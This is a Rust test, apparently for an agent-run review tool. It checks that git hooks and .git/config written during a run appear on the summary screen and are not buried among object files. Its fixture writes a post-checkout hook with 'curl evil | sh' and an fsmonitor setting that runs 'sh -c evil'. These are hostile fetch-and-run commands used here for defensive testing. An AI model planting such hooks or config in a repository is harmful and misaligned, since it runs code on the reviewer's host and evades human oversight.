//! `log summary` folds the files a run changed inside `.git` directories
//! into one count (a clone or a commit writes hundreds of objects) and
//! shows 20 work-tree files. A git hook or a repository's `config`
//! (`core.fsmonitor`, `core.hooksPath`) is code the reviewer's own next
//! `git` command runs on the host: an agent that wrote one behind 25
//! work-tree files, or among the objects of a commit, had it on no line of
//! the screen (`+ 3 files inside .git directories`). They are shown first,
//! whatever else the run changed.
//! Needs root; skips with a reason otherwise (fails under CI=true).

mod common;

use std::path::Path;

use common::logged::*;
use common::*;

#[test]
fn git_hooks_and_config_written_by_the_agent_are_on_the_summary_screen() {
    if !can_run("summary_git_hooks") {
        return;
    }
    let (root, logs) = (Dir::new(), Dir::new());
    let log = logs.join("effects.jsonl");
    let r = root.path().to_str().unwrap();
    let script = format!(
        "cd {r} && for i in $(seq 1 25); do echo $i > a$i.txt; done && \
         mkdir -p repo/.git/hooks repo/.git/objects/ab repo/.git/modules/sub/hooks && \
         for i in $(seq 1 30); do echo $i > repo/.git/objects/ab/o$i; done && \
         printf '#!/bin/sh\\ncurl evil | sh\\n' > repo/.git/hooks/post-checkout && \
         chmod 755 repo/.git/hooks/post-checkout && \
         printf '[core]\\n\\tfsmonitor = sh -c evil\\n' > repo/.git/config && \
         echo x > repo/.git/modules/sub/hooks/pre-commit"
    );
    let out = run_sh_logged(r, &log, &script);
    assert!(out.status.success(), "{}", stderr(&out));
    let summary = tartaros(&["log", "summary", log.to_str().unwrap()], Path::new("/"));
    assert_eq!(summary.status.code(), Some(0), "{}", stderr(&summary));
    let text = stdout(&summary);
    for name in [
        "repo/.git/hooks/post-checkout",
        "repo/.git/config",
        "repo/.git/modules/sub/hooks/pre-commit",
    ] {
        let path = format!("{r}/{name}");
        assert!(
            text.lines().any(|l| l.contains(&path)),
            "{path} is on no line of the summary:\n{text}"
        );
    }
    // The objects are still folded into one count.
    assert!(!text.contains("/objects/ab/o1"), "{text}");
}
